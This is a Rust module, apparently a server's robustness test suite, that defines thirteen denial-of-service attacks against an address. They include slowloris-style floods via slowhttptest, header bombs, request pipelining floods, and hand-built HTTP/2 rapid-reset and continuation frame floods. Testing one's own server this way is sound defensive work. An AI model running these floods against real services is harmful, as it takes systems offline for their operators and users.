//! Floods and other abuse.

use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use super::REQUEST;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const TLS: &[u8] = b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03";

pub(crate) type Attack = (&'static str, fn(&str));

/// The attacks on an `ip:port`, by name.
pub(crate) const ATTACKS: [Attack; 13] = [
    ("slow headers", |at| slowhttptest(at, "-H")),
    ("slow bodies", |at| slowhttptest(at, "-B")),
    ("slow reads", |at| slowhttptest(at, "-X -k 5 -w 1 -y 10 -n 1 -z 1")),
    ("connect and close", |at| connect_many(1, 10_000, at, |_| Ok(()))),
    ("header bombs", send_header_bombs),
    ("10,000 pipelined requests", pipeline),
    ("pipelined and never read", pipeline_without_reading),
    ("one byte at a time", send_single_bytes),
    ("half-closes", |at| send_and_half_close(4000, at, REQUEST)),
    ("HTTP/2 rapid reset", |at| send_and_half_close(80, at, &rapid_resets())),
    ("HTTP/2 continuations", |at| send_and_half_close(80, at, &continuations())),
    ("garbage", |at| send_and_half_close(1000, at, &garbage())),
    ("TLS", |at| send_and_half_close(2000, at, TLS)),
];

fn slowhttptest(address: &str, mode: &str) {
    let command = format!(
        "ulimit -n 4096; exec slowhttptest {mode} -c 1000 -r 500 -l 4 -i 1 -p 1 -u http://{address}/livez"
    );
    let output = Command::new("sh").args(["-c", &command]).stdin(Stdio::null()).output().unwrap();
    let printed = String::from_utf8_lossy(&output.stdout);
    assert!(printed.contains("connections"), "slowhttptest did not run: {printed}");
}

/// Opens `count` connections from some threads, and uses each. Errors of the attacker do not matter.
fn connect_many(
    threads: usize,
    count: usize,
    address: &str,
    attack: impl Fn(&mut TcpStream) -> std::io::Result<()> + Sync,
) {
    thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| {
                for _ in 0..count / threads {
                    let Ok(mut stream) = TcpStream::connect(address) else { continue };
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                    let _ = attack(&mut stream);
                }
            });
        }
    });
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Requests that are reset at once.
fn rapid_resets() -> Vec<u8> {
    let mut bytes = [PREFACE, &frame(4, 0, 0, &[])].concat();
    for stream in (1..20_000).step_by(2) {
        // GET / http, complete; then a reset with CANCEL.
        bytes.extend(frame(1, 5, stream, &[0x82, 0x84, 0x86]));
        bytes.extend(frame(3, 0, stream, &[0, 0, 0, 8]));
    }
    bytes
}

/// A request head with continuation frames that never end.
fn continuations() -> Vec<u8> {
    let mut bytes = [PREFACE, &frame(4, 0, 0, &[]), &frame(1, 1, 1, &[0x82, 0x84, 0x86])].concat();
    let field = [&[0x00, 0x01, b'a', 0x7f, 0x81, 0x1e], vec![b'x'; 4000].as_slice()].concat();
    (0..500).for_each(|_| bytes.extend(frame(9, 0, 1, &field)));
    bytes
}

/// Holds more connections than the server has slots, each of which sends frames until `end` is set.
pub(crate) fn send_frames_until(end: &AtomicBool, at: &str) {
    let preface = [PREFACE, &frame(4, 0, 0, &[])].concat();
    // Of an unknown type, which a server ignores.
    let frames = frame(0x99, 0, 0, &[0; 8]).repeat(1000);
    let connect = || {
        let mut stream = TcpStream::connect(at)?;
        stream.write_all(&preface)?;
        stream.set_nonblocking(true)?;
        Ok(stream)
    };
    let mut streams: Vec<std::io::Result<TcpStream>> = (0..80).map(|_| connect()).collect();
    while !end.load(Ordering::Relaxed) {
        for stream in &mut streams {
            let is_closed = stream.as_mut().map_or(true, |stream| {
                let sent = stream.write(&frames);
                sent.is_err_and(|error| error.kind() != ErrorKind::WouldBlock)
            });
            if is_closed {
                *stream = connect();
            }
        }
    }
}

fn send_header_bombs(at: &str) {
    let bomb = [REQUEST.strip_suffix(b"\r\n").unwrap(), &vec![b'x'; 1 << 20]].concat();
    connect_many(2, 400, at, |stream| stream.write_all(&bomb));
}

fn pipeline(at: &str) {
    let requests = REQUEST.repeat(10_000);
    connect_many(4, 4, at, |stream| {
        let mut reader = stream.try_clone()?;
        let reading = thread::spawn(move || std::io::copy(&mut reader, &mut std::io::sink()));
        stream.write_all(&requests)?;
        stream.shutdown(Shutdown::Write)?;
        reading.join().unwrap().map(drop)
    });
}

fn pipeline_without_reading(at: &str) {
    let requests = REQUEST.repeat(10_000);
    connect_many(4, 40, at, |stream| {
        stream.set_write_timeout(Some(Duration::from_millis(200)))?;
        stream.write_all(&requests)
    });
}

fn send_single_bytes(at: &str) {
    connect_many(2, 400, at, |stream| {
        stream.set_nodelay(true)?;
        REQUEST.chunks(1).try_for_each(|byte| stream.write_all(byte))
    });
}

/// Sends the bytes on many connections; half-closes each and reads until its end.
fn send_and_half_close(count: usize, at: &str, bytes: &[u8]) {
    connect_many(2, count, at, |stream| {
        stream.write_all(bytes)?;
        stream.shutdown(Shutdown::Write)?;
        stream.read_to_end(&mut Vec::new()).map(drop)
    });
}

fn garbage() -> Vec<u8> {
    let bytes = (0..4096_u32).map(|n| n.wrapping_mul(2_654_435_761).to_be_bytes());
    bytes.flatten().collect()
}
